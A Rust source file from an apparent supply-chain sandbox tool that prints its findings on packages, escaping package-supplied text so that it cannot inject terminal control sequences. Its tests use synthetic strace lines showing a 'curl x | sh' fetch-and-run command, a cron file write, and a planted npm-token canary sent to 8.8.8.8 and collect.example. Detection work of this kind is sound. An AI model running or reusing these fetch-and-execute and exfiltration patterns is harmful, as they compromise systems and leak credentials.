//! The human-readable report: findings grouped by severity with their
//! process chain and evidence, then a summary of the behaviour. Colored
//! only when asked to (a terminal, no NO_COLOR).
//!
//! Every string that came from the package (and every string of the report
//! is best assumed to) is printed through [`esc`]: the report is read on a
//! terminal, and a package must not be able to write to it.

use std::fmt::Write as _;

use event::terminal::esc;
use report::severity::Severity;
use report::{PhaseReport, PhaseStatus, Report};

/// How many entries of each behaviour list the text shows.
const LIST_MAX: usize = 25;

/// Longest command line the text shows whole (a linker line can be 5 KB,
/// pip's `python -c` script many lines); the JSON keeps them whole.
const ARGV_MAX: usize = 200;

/// `s` cut to [`ARGV_MAX`] characters, saying how much was left out.
fn shorten(s: &str) -> std::borrow::Cow<'_, str> {
    match s.char_indices().nth(ARGV_MAX) {
        None => s.into(),
        Some((cut, _)) => format!("{} … ({} more bytes)", &s[..cut], s.len() - cut).into(),
    }
}

struct Style {
    color: bool,
}

impl Style {
    fn paint(&self, code: &str, s: &str) -> String {
        if self.color {
            format!("\x1b[{code}m{s}\x1b[0m")
        } else {
            s.to_string()
        }
    }
    fn severity(&self, sev: Severity) -> String {
        let label = format!("{:<8}", sev.as_str().to_ascii_uppercase());
        let code = match sev {
            Severity::Critical => "1;31",
            Severity::High => "31",
            Severity::Medium => "33",
            Severity::Low => "36",
            Severity::Info => "2",
        };
        self.paint(code, &label)
    }
    fn dim(&self, s: &str) -> String {
        self.paint("2", s)
    }
    fn bold(&self, s: &str) -> String {
        self.paint("1", s)
    }
}

pub fn render(report: &Report, color: bool) -> String {
    let st = Style { color };
    let mut out = String::new();
    if let Some(pkg) = &report.package {
        let _ = writeln!(
            out,
            "{}",
            st.bold(&format!("{} ({} {} {})", esc(&pkg.purl), pkg.ecosystem, esc(&pkg.name), esc(&pkg.version)))
        );
    }
    if !report.canaries_leaked.is_empty() {
        let _ = writeln!(out, "{}", st.paint("1;31", "CANARIES LEAKED (planted credentials that left the sandbox):"));
        for l in &report.canaries_leaked {
            let _ = writeln!(out, "  {} — in {} via {}", esc(&l.canary), esc(&l.phase), esc(&l.via));
        }
        out.push('\n');
    }
    for phase in &report.phases {
        render_phase(&mut out, phase, &st);
    }
    let s = &report.stats;
    let _ = writeln!(
        out,
        "{}",
        st.dim(&format!(
            "read {} lines, {} events, {} processes; {} unparsed lines",
            s.lines, s.events, s.processes, s.unparsed
        ))
    );
    out
}

fn render_phase(out: &mut String, phase: &PhaseReport, st: &Style) {
    let active: Vec<_> = phase.findings.iter().filter(|f| f.is_active()).collect();
    let suppressed: Vec<_> = phase.findings.iter().filter(|f| !f.is_active()).collect();
    let _ = writeln!(out, "{}", st.bold(&format!("== phase {}: {} findings", esc(&phase.name), active.len())));
    if let Some(status) = &phase.status {
        let error = phase.error.as_deref().map(|e| format!(" — {}", esc(e))).unwrap_or_default();
        let _ = writeln!(out, "status: {status}{error}");
    }
    if let Some(run) = &phase.run {
        let mut how = match (&run.exit_code, &run.signal) {
            (Some(c), _) => format!("the command exited with {c}"),
            (None, Some(s)) => format!("the command was killed by {}", esc(s)),
            (None, None) => "the command's end was not seen".to_string(),
        };
        if run.timed_out {
            how.push_str("; TIMED OUT: every process was killed");
        }
        if run.interrupted {
            how.push_str("; INTERRUPTED: every process was killed");
        }
        if run.killed_at_end > 0 {
            how.push_str(&format!("; {} process(es) still running at the end were killed", run.killed_at_end));
        }
        let _ = writeln!(out, "{}", st.dim(&format!("{how} ({} ptrace stops)", run.stops)));
        if !run.untraced.is_empty() {
            let list: Vec<String> = run.untraced.iter().map(|u| format!("{} ({})", u.pid, esc(&u.command))).collect();
            let _ = writeln!(out, "{}", st.paint("1;31", &format!("untraced: {}", list.join(", "))));
        }
    }
    for sev in Severity::ALL.iter().rev() {
        let group: Vec<_> = active.iter().filter(|f| f.severity == *sev).collect();
        if group.is_empty() {
            continue;
        }
        out.push('\n');
        for f in group {
            let count = if f.count > 1 { format!(" (×{})", f.count) } else { String::new() };
            let _ = writeln!(out, "{} {}{count}", st.severity(f.severity), esc(&f.message));
            let at = f.evidence.at.as_deref().map(|a| format!(" at {}", esc(a))).unwrap_or_default();
            let result = f.evidence.result.as_deref().map(|r| format!(" → {}", esc(r))).unwrap_or_default();
            let package = f.package.as_deref().map(|p| format!(" for package {}", esc(p))).unwrap_or_default();
            let _ = writeln!(
                out,
                "         {}",
                st.dim(&format!(
                    "[{}] by {} (pid {}){package}{at}, {}{result}",
                    esc(&f.rule),
                    esc(&f.process),
                    f.pid,
                    esc(&f.evidence.syscall)
                ))
            );
        }
    }
    if !suppressed.is_empty() {
        let _ = writeln!(out, "\n{}", st.dim(&format!("{} suppressed (kept, not counted):", suppressed.len())));
        for f in suppressed.iter().take(LIST_MAX) {
            let why = match &f.suppressed_by {
                Some(reason) => reason.as_str(),
                None => "baseline: the control run of an empty package did this too",
            };
            let _ = writeln!(out, "{}", st.dim(&format!("  [{}] {} — {}", esc(&f.rule), esc(&f.subject), esc(why))));
        }
        more(out, suppressed.len(), st);
    }
    let b = &phase.behaviour;
    let _ = writeln!(
        out,
        "\n{}",
        st.bold(&format!(
            "behaviour: {} commands, {} files outside the project ({} inside), {} connections, {} DNS queries",
            b.commands.len(),
            b.files.len(),
            b.project_files,
            b.connections.len(),
            b.dns.len()
        ))
    );
    if !b.commands.is_empty() {
        let _ = writeln!(out, "  commands:");
        for c in b.commands.iter().take(LIST_MAX) {
            let argv = analyzer::rules::fact::shell_words(&c.argv);
            let failed = c.failed.as_ref().map(|e| format!(" — could not start: {}", esc(e))).unwrap_or_default();
            let _ = writeln!(out, "    {}{failed} {}", esc(&shorten(&argv)), st.dim(&format!("({})", esc(&c.chain))));
        }
        more(out, b.commands.len(), st);
    }
    if !b.dns.is_empty() {
        let _ = writeln!(out, "  dns:");
        for d in b.dns.iter().take(LIST_MAX) {
            let cut = if d.truncated { " (truncated)" } else { "" };
            let _ = writeln!(out, "    {} {}{cut} via {}", esc(&d.name), esc(&d.r#type), esc(&d.server));
        }
        more(out, b.dns.len(), st);
    }
    if !b.connections.is_empty() {
        let _ = writeln!(out, "  connections:");
        for c in b.connections.iter().take(LIST_MAX) {
            let port = c.port.map(|p| format!(":{p}")).unwrap_or_default();
            let host = c.host.as_deref().map(|h| format!(" ({})", esc(h))).unwrap_or_default();
            let sent = c.first_bytes.as_deref().map(|b| format!(", sent \"{}\"", esc(b))).unwrap_or_default();
            let _ =
                writeln!(out, "    {} {}{port}{host} → {}{sent}", esc(&c.transport), esc(&c.address), esc(&c.result));
            if !c.canaries.is_empty() {
                let carried: Vec<String> = c.canaries.iter().map(|v| esc(v).to_string()).collect();
                let _ = writeln!(out, "      {}", st.paint("1;31", &format!("carried canary {}", carried.join(", "))));
            }
        }
        more(out, b.connections.len(), st);
    }
    if !phase.network.is_empty() {
        let _ = writeln!(out, "  where it tried to go (the sandbox's sinks received):");
        for x in phase.network.iter().take(LIST_MAX) {
            let host = x.host.as_deref().unwrap_or(&x.address);
            let what = match (&x.method, &x.url) {
                (Some(m), Some(u)) => format!("{m} {u}"),
                _ if x.protocol == "tls" => {
                    "TLS, handshake not completed (client does not trust the sandbox's CA)".into()
                }
                _ => format!("{} bytes: \"{}\"", x.size, x.first_bytes.chars().take(60).collect::<String>()),
            };
            let _ = writeln!(out, "    {} {}:{} — {}", esc(&x.protocol), esc(host), x.port, esc(&what));
            if !x.canaries.is_empty() {
                let carried: Vec<String> = x.canaries.iter().map(|v| esc(v).to_string()).collect();
                let _ = writeln!(out, "      {}", st.paint("1;31", &format!("carried canary {}", carried.join(", "))));
            }
        }
        more(out, phase.network.len(), st);
    }
    if let Some(o) = &phase.output {
        if phase.status.is_some_and(|s| s != PhaseStatus::Completed) && !o.stderr.trim().is_empty() {
            let _ = writeln!(out, "  stderr (end):");
            for line in o.stderr.lines().rev().take(8).collect::<Vec<_>>().into_iter().rev() {
                let _ = writeln!(out, "    {}", st.dim(&esc(line).to_string()));
            }
        }
    }
    let changed: Vec<_> = b.files.iter().filter(|f| f.write || f.delete || f.chmod).collect();
    if !changed.is_empty() {
        let _ = writeln!(out, "  files changed outside the project:");
        for f in changed.iter().take(LIST_MAX) {
            let mut what = Vec::new();
            if f.write {
                what.push("write");
            }
            if f.delete {
                what.push("delete");
            }
            if f.chmod {
                what.push("chmod");
            }
            if f.failed {
                what.push("failed");
            }
            let _ = writeln!(out, "    {} {}", esc(&f.path), st.dim(&format!("({})", what.join(", "))));
        }
        more(out, changed.len(), st);
    }
    out.push('\n');
}

fn more(out: &mut String, n: usize, st: &Style) {
    if n > LIST_MAX {
        let _ = writeln!(out, "    {}", st.dim(&format!("... and {} more (see --format json)", n - LIST_MAX)));
    }
}

#[cfg(test)]
mod tests {
    use serde_json::Value;

    use super::*;
    use analyzer::testutil::analyze_lines;
    use analyzer::Context;
    use event::terminal::needs_escape;
    use report::{LeakedCanary, PackageInfo};
    use report::{OutputTail, Stats, SCHEMA_VERSION};

    const CANARY: &str = "CANARY-npm-4f1c2a9e7d3b";

    /// A report in which every part the text shows is present.
    fn full_report() -> Report {
        let lines = [
            r#"10 execve("/usr/bin/node", ["node", "x.js"], 0x1 /* 1 var */) = 0"#,
            "10 clone(child_stack=NULL, flags=SIGCHLD) = 11",
            r#"11 execve("/bin/sh", ["sh", "-c", "curl x | sh"], 0x1 /* 1 var */) = 0"#,
            r#"10 openat(AT_FDCWD, "/etc/cron.d/job", O_WRONLY|O_CREAT|O_TRUNC, 0644) = 3"#,
            "10 socket(AF_INET, SOCK_DGRAM, IPPROTO_IP) = 4",
            r#"10 connect(4, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.53")}, 16) = 0"#,
            r#"10 sendto(4, "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01", 29, MSG_NOSIGNAL, NULL, 0) = 29"#,
            "10 socket(AF_INET, SOCK_DGRAM, IPPROTO_IP) = 5",
            r#"10 sendto(5, "t=CANARY-npm-4f1c2a9e7d3b", 25, 0, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("8.8.8.8")}, 16) = 25"#,
            "10 kill(4242, SIGKILL) = -1 EPERM (Operation not permitted)",
        ];
        let ctx = Context { phase: "install".into(), canaries: vec![CANARY.into()], ..Context::default() };
        let mut phase = analyze_lines(&lines, ctx);
        phase.status = Some(PhaseStatus::Failed);
        phase.error = Some("the command failed".into());
        phase.run = Some(report::Outcome { signal: Some("SIGKILL".into()), ..Default::default() });
        phase.output = Some(OutputTail { stdout: "out\n".into(), stderr: "line one\nline two\n".into() });
        phase.network = vec![report::Exchange {
            transport: "tcp".into(),
            protocol: "https".into(),
            address: "104.21.1.2".into(),
            port: 443,
            host: Some("collect.example".into()),
            pid: 10,
            process: "node x.js".into(),
            method: Some("POST".into()),
            url: Some("https://collect.example/x".into()),
            first_bytes: format!("POST /x HTTP/1.1\\r\\n\\r\\nt={CANARY}"),
            size: 40,
            canaries: vec![CANARY.into()],
        }];
        Report {
            schema_version: SCHEMA_VERSION,
            package: Some(PackageInfo {
                purl: "pkg:npm/x@1.0.0".into(),
                ecosystem: report::Ecosystem::Npm,
                name: "x".into(),
                version: "1.0.0".into(),
            }),
            canaries_leaked: vec![LeakedCanary {
                canary: "npm token".into(),
                phase: "install".into(),
                via: "udp 8.8.8.8:53".into(),
            }],
            phases: vec![phase],
            stats: Stats::default(),
        }
    }

    /// Appends hostile text to every string of the report that may hold
    /// any text (strings that must parse, like a severity or an IP, are
    /// left alone: the report would not load with them changed).
    fn poisoned(report: &Report) -> Report {
        const POISON: &str = "\x1b[2J\x1b]0;t\x07\u{9b}31m\u{202e}\u{2066}\r\n\t\x7f";
        fn leaves(v: &Value, at: String, out: &mut Vec<String>) {
            match v {
                Value::String(_) => out.push(at),
                Value::Array(a) => a.iter().enumerate().for_each(|(i, x)| leaves(x, format!("{at}/{i}"), out)),
                Value::Object(m) => m.iter().for_each(|(k, x)| leaves(x, format!("{at}/{k}"), out)),
                _ => {}
            }
        }
        let mut v = serde_json::to_value(report).unwrap();
        let mut all = Vec::new();
        leaves(&v, String::new(), &mut all);
        let mut changed = 0;
        for at in all {
            let before = v.pointer(&at).unwrap().clone();
            *v.pointer_mut(&at).unwrap() = Value::String(format!("{}{POISON}", before.as_str().unwrap()));
            if serde_json::from_value::<Report>(v.clone()).is_ok() {
                changed += 1;
            } else {
                *v.pointer_mut(&at).unwrap() = before;
            }
        }
        assert!(changed > 30, "only {changed} strings poisoned");
        serde_json::from_value(v).unwrap()
    }

    #[test]
    fn no_string_of_the_report_reaches_the_terminal_raw() {
        let clean = full_report();
        let text = render(&clean, false);
        for part in ["CANARIES LEAKED", "stderr (end)", "where it tried to go", "suppressed", "files changed"] {
            assert!(text.contains(part), "the test report lacks {part:?}:\n{text}");
        }
        let hostile = render(&poisoned(&clean), false);
        let raw: Vec<char> = hostile.chars().filter(|c| *c != '\n' && needs_escape(*c)).collect();
        assert!(raw.is_empty(), "raw {raw:?} in:\n{hostile}");
        // No line was added or split, so a package cannot forge one of
        // pkgtrace's lines. The one exception is the command's stderr tail,
        // shown line by line, indented: the poison's `\n` ends one more line
        // of it there, and its trailing text makes another.
        assert_eq!(hostile.lines().count(), text.lines().count() + 2, "{hostile}");
        assert!(hostile.contains(r"\x1b[2J\x1b]0;t\x07\u{9b}31m\u{202e}\u{2066}\r\n\t\x7f"));
    }

    #[test]
    fn a_long_command_line_is_shortened() {
        let long = "x".repeat(5000);
        let short = shorten(&long);
        assert!(short.starts_with(&"x".repeat(ARGV_MAX)));
        assert!(short.ends_with(&format!("… ({} more bytes)", 5000 - ARGV_MAX)));
        assert_eq!(shorten("cc -o a a.c"), "cc -o a a.c");
    }

    #[test]
    fn an_escape_sequence_in_argv_or_a_path_is_shown_not_played() {
        let lines = [
            r#"10 execve("/usr/bin/node", ["node", "\33[2J\33[Hclean"], 0x1 /* 1 var */) = 0"#,
            r#"10 openat(AT_FDCWD, "/etc/profile.d/\33[2J.sh", O_WRONLY|O_CREAT|O_TRUNC, 0644) = 3"#,
        ];
        let phase = analyze_lines(&lines, Context { phase: "install".into(), ..Context::default() });
        let report = Report {
            schema_version: SCHEMA_VERSION,
            package: None,
            canaries_leaked: Vec::new(),
            phases: vec![phase],
            stats: Stats::default(),
        };
        for color in [false, true] {
            let text = render(&report, color);
            assert!(text.contains(r"node '\x1b[2J\x1b[Hclean'"), "{text}");
            assert!(text.contains(r"/etc/profile.d/\x1b[2J.sh"), "{text}");
            if !color {
                assert!(!text.contains('\x1b'), "{text}");
            }
            // With color, every ESC starts one of our own SGR sequences.
            assert!(text
                .split('\x1b')
                .skip(1)
                .all(|s| s.starts_with('[') && s[1..].starts_with(|c: char| c.is_ascii_digit())));
            assert!(!text.contains("\x1b[2J") && !text.contains("\x1b[H"), "{text}");
        }
    }
}
